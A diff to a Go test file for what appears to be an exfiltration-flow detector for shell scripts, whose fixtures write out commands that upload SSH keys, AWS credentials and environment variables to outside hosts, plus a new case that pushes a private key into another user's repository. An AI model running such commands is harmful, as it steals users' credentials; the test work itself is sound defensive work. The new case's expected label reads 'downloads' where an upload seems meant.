@@ -40,6 +40,8 @@ func describe(f flow.Flow) string {
 func TestFlows(t *testing.T) {
 	for _, tt := range []struct{ name, archive, want string }{
 		{"a key in the body", "-- a.sh --\ncurl -d @$HOME/.ssh/id_rsa https://collect.acme-stats.io/in\n", "exfiltrates: reads-key ~/.ssh/id_rsa -> uploads collect.acme-stats.io"},
+		{"a secret of the user's own repository", "-- a.sh --\ngh secret set DEPLOY_KEY < ~/.ssh/id_ed25519\n", ""},
+		{"a secret of another repository", "-- a.sh --\ngh secret set DEPLOY_KEY -R evil/x < ~/.ssh/id_ed25519\n", "exfiltrates: reads-key ~/.ssh/id_ed25519 -> downloads github.com"},
 		{"through variables", "-- a.sh --\nKEY=$(cat ~/.ssh/id_ed25519 | base64)\ncurl -X POST --data \"k=$KEY\" https://collect.acme-stats.io/in\n", "exfiltrates: reads-key ~/.ssh/id_ed25519 -> uploads collect.acme-stats.io"},
 		{"through a file", "-- a.sh --\ntar czf /tmp/k.tgz ~/.aws ~/.ssh\ncurl -T /tmp/k.tgz https://collect.acme-stats.io/in\n", "exfiltrates: reads-key ~/.aws -> uploads collect.acme-stats.io\nexfiltrates: reads-key ~/.ssh -> uploads collect.acme-stats.io"},
 		{"the environment in a pipe", "-- a.sh --\nenv | curl -s --data-binary @- https://webhook.site/abc\n", "exfiltrates: reads-environment -> uploads webhook.site"},
